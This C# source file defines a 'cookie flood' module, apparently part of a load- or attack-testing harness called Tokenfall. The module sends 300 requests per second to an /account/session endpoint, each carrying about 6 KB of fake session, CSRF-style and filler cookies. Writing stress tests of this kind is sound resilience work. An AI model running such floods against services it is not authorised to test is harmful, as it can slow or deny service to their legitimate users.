using System.Security.Cryptography;

namespace Tokenfall.Attacks.Floods;

/// <summary>Cookies that look like those of sessions and visitors, and are not.</summary>
internal sealed class CookieFlood : IFlood
{
    public string Name => "cookies";

    public string Title => "anonymous: cookies";

    public string Description => "made-up cookies of sessions, of visitors and others, 6 KB in all";

    public int PerSecond => 300;

    public int AtOnce => 64;

    public Task PrepareAsync(Victim victim) => Task.CompletedTask;

    public async Task<string> StepAsync(Victim victim, int number, CancellationToken cancellationToken)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, "/account/session");
        var cookie = $"tokenfall={Noise(1000)}; tokenfall.csrf=CfDJ8{Noise(500)}; {string.Join("; ", Enumerable.Range(0, 30).Select(other => $"c{other}={Noise(75)}"))}";
        request.Headers.TryAddWithoutValidation("Cookie", cookie);
        return await victim.SendAsync(request, cancellationToken);
    }

    private static string Noise(int bytes) => RandomNumberGenerator.GetHexString(bytes * 2, lowercase: true);
}
